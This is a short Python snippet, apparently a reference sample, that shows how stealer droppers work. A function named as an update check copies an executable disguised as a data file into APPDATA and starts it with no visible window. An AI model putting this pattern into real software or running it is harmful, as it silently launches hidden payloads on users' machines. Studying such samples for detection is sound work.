# Pattern: Windows droppers that ship an executable disguised as a data asset, copy it out and start it (W4SP-style stealer droppers)
import os
import subprocess
from pathlib import Path

ASSET = Path(__file__).parent / "assets" / "update.dat"


def check_for_updates():
    target = Path(os.environ.get("APPDATA", ".")) / "updater.exe"
    target.write_bytes(ASSET.read_bytes())
    subprocess.Popen([str(target)], creationflags=0x08000000)
